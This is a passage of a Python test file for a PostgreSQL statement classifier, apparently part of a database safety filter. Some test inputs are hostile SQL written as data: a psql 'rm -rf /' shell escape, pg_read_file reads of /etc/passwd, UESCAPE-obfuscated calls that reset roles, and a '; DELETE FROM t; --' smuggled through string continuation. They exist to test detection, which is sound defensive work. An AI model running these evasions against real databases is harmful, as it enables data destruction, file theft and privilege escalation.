    ("SET client_encoding = 'SJIS'", 'SET', 'privilege', ''),
    ("SET NAMES 'BIG5'", 'SET', 'privilege', ''),
    ("SET SCHEMA 'hr'", 'SET', 'session', ''),
    ('SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY', 'SET', 'session', ''),
    ('SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'SET TRANSACTION', 'transaction', ''),
    ('SET CONSTRAINTS ALL DEFERRED', 'SET CONSTRAINTS', 'transaction', ''),
    ('SET', 'UNKNOWN', 'unknown', ''),
    ('SHOW work_mem', 'SHOW', 'read', ''),
    ('SHOW ALL', 'SHOW', 'read', ''),
    ('DISCARD ALL', 'DISCARD', 'session', ''),
    ('DISCARD PLANS', 'DISCARD', 'session', ''),
    ('LISTEN chan', 'LISTEN', 'session', ''),
    ('UNLISTEN *', 'UNLISTEN', 'session', ''),
    ('DEALLOCATE p', 'DEALLOCATE', 'session', ''),
    ('DEALLOCATE PREPARE ALL', 'DEALLOCATE', 'session', ''),
    ('BEGIN', 'BEGIN', 'transaction', ''),
    ('BEGIN ISOLATION LEVEL REPEATABLE READ', 'BEGIN', 'transaction', ''),
    ('BEGIN TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE', 'BEGIN', 'transaction', ''),
    ("COMMIT PREPARED 'x'", 'COMMIT PREPARED', 'transaction', ''),
    ('ROLLBACK TO s', 'ROLLBACK TO SAVEPOINT', 'transaction', ''),
    ('BEGIN DELETE FROM t', 'UNKNOWN', 'unknown', ''),
    ("COMMIT PREPARED 'x' DELETE", 'UNKNOWN', 'unknown', ''),
    ('START TRANSACTION READ ONLY', 'BEGIN', 'transaction', ''),
    ('COMMIT', 'COMMIT', 'transaction', ''),
    ('END', 'COMMIT', 'transaction', ''),
    ('ROLLBACK', 'ROLLBACK', 'transaction', ''),
    ('ABORT', 'ROLLBACK', 'transaction', ''),
    ('SAVEPOINT s1', 'SAVEPOINT', 'transaction', ''),
    ('RELEASE SAVEPOINT s1', 'RELEASE SAVEPOINT', 'transaction', ''),
    ('RELEASE s1', 'RELEASE SAVEPOINT', 'transaction', ''),
    ('ROLLBACK TO SAVEPOINT s1', 'ROLLBACK TO SAVEPOINT', 'transaction', ''),
    ("PREPARE TRANSACTION 'gid'", 'PREPARE TRANSACTION', 'transaction', ''),
    ("COMMIT PREPARED 'gid'", 'COMMIT PREPARED', 'transaction', ''),
    ("ROLLBACK PREPARED 'gid'", 'ROLLBACK PREPARED', 'transaction', ''),
]

UNKNOWN: list[Row] = [
    ('', '', '', ''),
    (';;', '', '', ''),
    ('-- only a comment', '', '', ''),
    ('garbage words here', 'UNKNOWN', 'unknown', ''),
    ("SELECT 'unterminated", 'UNKNOWN', 'unknown', ''),
    ('SELECT "unterminated', 'UNKNOWN', 'unknown', ''),
    ('SELECT $$unterminated', 'UNKNOWN', 'unknown', ''),
    ('SELECT 1 /* unterminated', 'UNKNOWN', 'unknown', ''),
    ('SELECT FROM WHERE', 'UNKNOWN', 'unknown', ''),
    ('SELECT a FROM t ORDER /* c */ BY a', 'UNKNOWN', 'unknown', ''),
    ('DELETE FROM t WHERE CURRENT OF c', 'UNKNOWN', 'unknown', ''),
    ('START', 'UNKNOWN', 'unknown', ''),
    ('KILL 5', 'UNKNOWN', 'unknown', ''),
    ('REPLACE INTO t VALUES (1)', 'UNKNOWN', 'unknown', ''),
    ('SHUTDOWN', 'UNKNOWN', 'unknown', ''),
    ('\\! rm -rf /', 'UNKNOWN', 'unknown', ''),
    ('PREPARE p AS', 'UNKNOWN', 'unknown', ''),
    ('EXECUTE', 'UNKNOWN', 'unknown', ''),
    # D: UESCAPE in any but the simple form; RESET takes one name
    ("EXECUTE p(U&\"pg!005fread!005ffile\" UESCAPE E'!' ('/etc/passwd'))", 'UNKNOWN', 'unknown', ''),
    ("EXECUTE p(U&\"set!005fconfig\" /**/ UESCAPE '!' ('role','postgres',false))", 'UNKNOWN', 'unknown', ''),
    ("RESET U&\"rol!0065\" /**/ UESCAPE '!'", 'UNKNOWN', 'unknown', ''),
    ('RESET U&"session!005fauthorization" UESCAPE $$!$$', 'UNKNOWN', 'unknown', ''),
    ('RESET work_mem role', 'UNKNOWN', 'unknown', ''),
    ('RESET ALL work_mem', 'UNKNOWN', 'unknown', ''),
    ('RESET ROLE x', 'UNKNOWN', 'unknown', ''),
    ("RESET 'role'", 'UNKNOWN', 'unknown', ''),
    ('RESET a.', 'UNKNOWN', 'unknown', ''),
    # C: EXECUTE takes a name and its parameters, nothing else
    ('EXECUTE p x', 'UNKNOWN', 'unknown', ''),
    ('EXECUTE p(1) x', 'UNKNOWN', 'unknown', ''),
    ('EXECUTE p(1)(2)', 'UNKNOWN', 'unknown', ''),
    ('EXECUTE a.b', 'UNKNOWN', 'unknown', ''),
    ('U&"d\\XYZ" x', 'UNKNOWN', 'unknown', ''),
    # a literal continued on another line: one literal of the first one's kind (E'' keeps
    # backslash escapes), which the lexer would read as a second, standard string
    ("SET application_name = E'x'\n'\\' , '; DELETE FROM t; --'", 'UNKNOWN', 'unknown', ''),
    ("PREPARE TRANSACTION E'x'\n'\\' '; DELETE FROM t; --'", 'UNKNOWN', 'unknown', ''),
    ("SELECT 'a'\n'b'", 'UNKNOWN', 'unknown', ''),
    ("SELECT 'a' -- c\n'b'", 'UNKNOWN', 'unknown', ''),
    ("SELECT U&'a'\n'b'", 'UNKNOWN', 'unknown', ''),
]

PREPARE_EXECUTE: list[Row] = [
    ('PREPARE p AS SELECT * FROM t WHERE id = $1', 'SELECT', 'read', ''),
    ('PREPARE p (int) AS DELETE FROM t', 'DELETE', 'write', 'delete_without_where'),
    ('PREPARE p(int, text) AS UPDATE t SET a = $2 WHERE id = $1', 'UPDATE', 'write', ''),
    ('PREPARE p AS COPY t TO STDOUT', 'COPY', 'read,export', 'copy_to_stdout'),
    ('EXECUTE p', 'EXECUTE', '', ''),
    ("EXECUTE p(1, 'x')", 'EXECUTE', '', ''),
    ("EXECUTE p(pg_read_file('/etc/passwd'))", 'EXECUTE', 'file', 'file_access'),
    ('EXECUTE immediate', 'EXECUTE', '', ''),  # PostgreSQL has no EXECUTE IMMEDIATE
    ('CREATE TABLE x AS EXECUTE p(1) WITH NO DATA', 'CREATE TABLE', 'ddl,write', ''),
    ('CREATE TABLE x AS EXECUTE p WITH DATA', 'CREATE TABLE', 'ddl,write', ''),
    ('CREATE TABLE x AS EXECUTE p x', 'UNKNOWN', 'unknown', ''),
    ("EXECUTE p(U&\"d!0061t!+000061\" UESCAPE '!')", 'EXECUTE', '', ''),
]

ALL_ROWS = BENIGN_READS + EVASIONS + LOOK_INSIDE + COPY + DML_DDL + DCL_ADMIN_SESSION
ALL_ROWS += UNKNOWN + PREPARE_EXECUTE
# fmt: on


def expected(kind: str, classes: str, builtins: str) -> list[tuple[str, set[str], set[str]]]:
    """Rows' " | "-separated expectations, one (kind, classes, builtins) per statement."""
    kinds = [part.strip() for part in kind.split("|")] if kind else []

    def sets(text: str) -> list[set[str]]:
        parts = text.split("|") if text else [""] * len(kinds)
        return [{item.strip() for item in part.split(",") if item.strip()} for part in parts]

    return list(zip(kinds, sets(classes), sets(builtins), strict=True))


@pytest.mark.parametrize(("sql", "kind", "classes", "builtins"), ALL_ROWS, ids=repr)
def test_classify_postgres(sql: str, kind: str, classes: str, builtins: str) -> None:
    facts = classify_text(sql, "postgres")
    got = [(f.kind, set(f.classes), set(f.builtins)) for f in facts]
    assert got == expected(kind, classes, builtins)


def test_there_are_hundreds_of_rows() -> None:
    assert len(ALL_ROWS) >= 250


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT set_config('role', 'x', false)",
        "SET search_path = 'hr'",
        "SET standard_conforming_strings = 'on'",
        "SET client_encoding = 'UTF8'",
        "SELECT set_config('search_path', 'hr', false)",
    ],
)
def test_literal_dependent_statements(sql: str) -> None:
    (facts,) = classify_text(sql, "postgres")
    assert facts.literal_dependent


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM t WHERE id = 1",
        "SET work_mem = '64MB'",
        "SET search_path TO hr",
        "COPY t TO '/tmp/x'",
        "PREPARE p AS SELECT 1",
        "SELECT pg_read_file('/etc/passwd')",
    ],
)
def test_literal_independent_statements(sql: str) -> None:
    (facts,) = classify_text(sql, "postgres")
    assert not facts.literal_dependent


def test_tables_and_schemas_from_the_ast() -> None:
    (facts,) = classify_text(
        'SELECT * FROM hr.payroll p JOIN "Staff" s ON p.id = s.id WHERE x IN '
        "(SELECT y FROM audit.log)",
        "postgres",
    )
    assert facts.tables == {
        (("hr", False), ("payroll", False)),
        (None, ("Staff", True)),
        (("audit", False), ("log", False)),
    }
    assert facts.schemas == {("hr", False), ("audit", False)}


def test_unicode_escaped_identifiers_are_decoded() -> None:
    (facts,) = classify_text('SELECT * FROM U&"p\\0061yroll"', "postgres")
    assert facts.tables == {(None, ("payroll", True))}


def test_functions_are_collected() -> None:
    (facts,) = classify_text("SELECT lower(a), hr.calc_pay(b) FROM t WHERE a IN (1)", "postgres")
    assert facts.functions == {"lower", "calc_pay"}
    assert ("hr", False) in facts.schemas


def test_prepare_and_execute_carry_names() -> None:
    (prepare,) = classify_text('PREPARE "MyStmt" AS SELECT 1', "postgres")
    assert prepare.prepare == "MyStmt"
    assert prepare.body is not None and prepare.body.kind == "SELECT"
    (unquoted,) = classify_text("PREPARE MyStmt AS SELECT 1", "postgres")
    assert unquoted.prepare == "mystmt"
    (execute,) = classify_text("EXECUTE MyStmt(1)", "postgres")
    assert execute.execute == "mystmt"
    (dealloc,) = classify_text("DEALLOCATE ALL", "postgres")
    assert dealloc.deallocate == "*"
    (discard,) = classify_text("DISCARD ALL", "postgres")
    assert discard.deallocate == "*"
    (explain,) = classify_text("EXPLAIN ANALYZE EXECUTE p", "postgres")
    assert explain.execute == "p"
    (ctas,) = classify_text("CREATE TABLE x AS EXECUTE p", "postgres")
    assert ctas.execute == "p"
    assert {"ddl", "write"} <= ctas.classes


def test_search_path_schemas() -> None:
    (facts,) = classify_text("SET search_path TO hr, \"Fin\", 'audit, ops'", "postgres")
    assert {("hr", False), ("Fin", True), ("audit", False), ("ops", False)} <= facts.schemas


def test_deep_nesting_is_unknown_not_a_crash() -> None:
    sql = "EXPLAIN ANALYZE " * 20 + "SELECT 1"
    (facts,) = classify_text(sql, "postgres")
    assert facts.classes == {"unknown"}
    deep = "SELECT " + "(" * 3000 + "1" + ")" * 3000
    (facts,) = classify_text(deep, "postgres")
    assert facts.classes <= {"read", "unknown"}
